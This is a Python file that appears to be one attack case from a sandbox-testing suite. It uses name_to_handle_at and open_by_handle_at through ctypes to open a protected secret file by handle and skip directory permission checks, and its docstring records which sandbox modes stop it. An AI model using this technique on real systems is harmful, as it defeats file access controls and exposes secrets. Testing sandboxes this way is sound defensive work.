"""Opens a private file by its handle: no path, so no permission of a folder is asked.

Seen: an answer: it knows the secret.
Stopped at: strict, standard.
Works: as root.
Verdict: wrong.
"""
import ctypes
import os


def attack():
    libc = ctypes.CDLL(None)
    handle = ctypes.create_string_buffer(b"\x80\0\0\0", 136)
    libc.name_to_handle_at(-100, target.secret.encode(), handle, ctypes.byref(ctypes.c_int()), 0)
    for root in range(3, 64):
        fd = libc.open_by_handle_at(root, handle, os.O_RDONLY)
        if fd >= 0:
            return target.knows(os.read(fd, 100))
    fd = libc.open_by_handle_at(os.open("/", os.O_RDONLY), handle, os.O_RDONLY)
    return fd >= 0 and target.knows(os.read(fd, 100))
